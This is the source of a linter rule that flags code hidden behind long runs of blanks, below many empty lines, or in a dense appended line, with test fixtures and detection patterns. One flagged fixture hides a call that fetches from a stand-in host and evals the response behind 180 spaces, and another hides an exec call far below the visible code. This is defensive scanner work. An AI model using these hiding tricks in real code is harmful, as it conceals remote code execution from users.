import { defineRule, rangeOf } from '../src/define.js';
import type { Edit, FileContext, Problem, SourceFile } from '../src/types.js';

const blanks = ' '.repeat(180);
const dense = `(function(){var q=[process.env.HOME];${Array.from({ length: 90 }, (_, at) => `q.push(function(a,b){return a+b*${at}});`).join('')}q.map(function(f){return f(1,2)})})();`;
const readable = Array.from({ length: 24 }, (_, at) => `exports.step${at} = value => value + ${at};`).join('\n');
const broken = 'a = function(b { return process(b); };';

export default defineRule({
  meta: {
    summary: 'Puts code where a reader does not look',
    why: 'Editors and web pages show the first hundred columns and the first screen. Code behind a long run of blanks, below hundreds of empty lines, or as one dense line at the end of a file that people wrote, is there not to be read. Deeply nested and aligned code has its blanks before and between words too, but in every line; bundles are dense all over; compilers write their helpers at the top.',
    behaviour: 'obfuscation',
    messages: {
      beside: 'Holds code behind {count} blanks in a line',
      below: 'Holds code below {count} empty lines',
      appended: 'Ends in one dense line of code ({count} characters), unlike the rest of the file',
    },
    bits: { beside: 10, below: 8, appended: 7 },
    rewrite: 'Take the blanks in front of the code away',
  },
  examples: {
    flags: [
      {
        title: 'a call stands beside the last bracket',
        files: {
          'index.js': `module.exports = function pad(text) {\n  return ' ' + text;\n};${blanks}require('https').get('https://a.invalid', r => r.on('data', d => eval(String(d))));`,
        },
      },
      {
        title: 'a call stands far below',
        files: {
          'index.js': `module.exports = text => text.trim();${'\n'.repeat(220)}require('child_process').exec('id');`,
        },
      },
      { title: 'a dense function follows code for people', files: { 'index.js': `${readable}\n${dense}` } },
    ],
    passes: [
      {
        title: 'a table is aligned by blanks',
        code: `module.exports = [\n${['red', 'green', 'blue', 'grey'].map(name => `  ['${name}',${blanks}paint('${name}')],`).join('\n')}\n];`,
      },
      {
        title: 'the whole file is dense',
        files: { 'index.js': `/*! a licence */\n${dense}` },
      },
      {
        title: 'a comment stands far to the right',
        files: {
          'index.js': `module.exports = 1;${blanks}// the number of the first page, as require() and eval() have it (see above)`,
        },
      },
      {
        title: 'two statements of a dense line are broken',
        files: {
          'index.js': `${broken}${'exports.a = [1, 2, 3];'.repeat(20)}${broken}${'exports.b = 1;'.repeat(20)}`,
        },
      },
      {
        title: 'the last line is data',
        files: {
          'index.js': `${readable}\nexports.table = [${Array.from({ length: 400 }, (_, at) => at).join(',')}];`,
        },
      },
    ],
  },
  file({ file, nodes, report }) {
    look(file, report, gap => (isInText(gap, nodes) ? [] : [gap]));
  },
  text({ file, isWhole, report }) {
    if (isWhole) look(file, report);
  },
});

/** What a line of code does when it does anything. */
const ACTS =
  /\b(?:require|import|eval|Function|fetch|process|global(?:This)?|window|document|atob|Buffer|module|setTimeout|setInterval|XMLHttpRequest|async|_0x\w+)\b/;
/** Fewer blanks are somebody's idea of order. Of more, the engine has no room to count them: these are the first. */
const BESIDE = /[ \t]{140}/g;
const BLANK_LINES = /\r?\n[ \t\r\n]*/g;
const FAR_BELOW = 150;

/** @param rewrite what may be done about the blanks; where no parser accepts the file, nobody can tell */
function look(file: SourceFile, report: (problem: Problem) => void, rewrite = (_: Edit): readonly Edit[] => []): void {
  const found = beside(file.text) ?? below(file.text) ?? appended(file.text);
  if (!found) return;
  const { messageId, count, start, says, gap } = found;
  report({
    messageId,
    data: { count },
    chain: [{ role: 'context', says, origin: { file, start, end: Math.min(start + 300, lineEnd(file.text, start)) } }],
    ...(gap && { rewrite: rewrite(gap) }),
  });
}

/** Blanks inside of a text are a part of it; in a comment they are as good as between two words. */
function isInText({ start, end }: Edit, nodes: FileContext['nodes']): boolean {
  return ['Literal', 'TemplateElement', 'JSXText'].some(type =>
    nodes(type).some(node => {
      const [from, to] = rangeOf(node);
      return from < end && to > start;
    }),
  );
}

interface Hidden {
  readonly messageId: string;
  readonly count: number;
  readonly start: number;
  readonly says: string;
  /** The blanks, and what does the same in their place. */
  readonly gap?: Edit;
}

/** Code in one or two lines only: who aligns a table does so in each. */
function beside(text: string): Hidden | undefined {
  const hidden: Hidden[] = [];
  let lines = 0;
  BESIDE.lastIndex = 0;
  for (let match = BESIDE.exec(text); match; match = BESIDE.exec(text)) {
    let start = match.index + match[0].length;
    while (text[start] === ' ' || text[start] === '\t') start++;
    BESIDE.lastIndex = start;
    if (isBlankAt(text, start)) continue;
    if (++lines > 20) return undefined;
    const before = text.slice(text.lastIndexOf('\n', match.index) + 1, match.index);
    const after = text.slice(start, Math.min(start + 5_000, lineEnd(text, start)));
    // A line that merely begins far to the right is nested deeply, or the text was moved as a whole.
    if (before.trim() === '' || !isCode(after)) continue;
    const gap = { start: match.index, end: start, text: ' ' };
    hidden.push({ messageId: 'beside', count: start - match.index, start, says: 'stands behind a run of blanks', gap });
  }
  return lines <= 3 ? hidden[0] : undefined;
}

function below(text: string): Hidden | undefined {
  for (const match of text.matchAll(BLANK_LINES)) {
    const count = match[0].length < FAR_BELOW ? 0 : match[0].split('\n').length - 1;
    const start = match.index + match[0].length;
    if (count < FAR_BELOW || isBlankAt(text, start)) continue;
    if (match.index === 0 || !isCode(text.slice(start, start + 5_000))) return undefined;
    const gap = { start: match.index, end: start, text: '\n' };
    return { messageId: 'below', count, start, says: 'stands far below the rest', gap };
  }
  return undefined;
}

/** Nothing stands there, or the text is at its end. */
function isBlankAt(text: string, at: number): boolean {
  return !/\S/.test(text.charAt(at));
}

/** One dense line that acts, last in a file that otherwise has lines as people write them. */
function appended(text: string): Hidden | undefined {
  const trimmed = text.trimEnd().replace(/\n\/\/# sourceMappingURL=\S*$/, '');
  const start = trimmed.lastIndexOf('\n') + 1;
  const last = trimmed.slice(start);
  if (start === 0 || last.length < 1_100 || last.length > 500_000) return undefined;
  const others = trimmed.slice(0, start).split('\n');
  if (others.some(line => line.length > 400)) return undefined;
  const written = others.filter(line => line.trim().length > 2 && !/^\s*(?:\/\/|\/?\*)/.test(line));
  if (written.length < 20) return undefined;
  const bare = last.replace(/'(?:[^'\\]|\\.)*'?|"(?:[^"\\]|\\.)*"?/g, 'S').replace(/\/\/.*/, '');
  const functions = bare.match(/\bfunction\b|=>/g)?.length ?? 0;
  const calls = bare.match(/[\w\])]\(/g)?.length ?? 0;
  if (functions < 2 || calls < 6 || !ACTS.test(bare)) return undefined;
  return { messageId: 'appended', count: last.length, start, says: 'is one dense line, unlike the rest' };
}

/** Twenty characters that call something, outside of a comment and of a string. */
function isCode(text: string): boolean {
  const bare = text.trimStart();
  return bare.length >= 20 && !/^(?:\/[/*]|\*|['"`])/.test(bare) && /[\w\])]\s{0,5}\(/.test(bare) && ACTS.test(bare);
}

function lineEnd(text: string, from: number): number {
  const end = text.indexOf('\n', from);
  return end < 0 ? text.length : end;
}
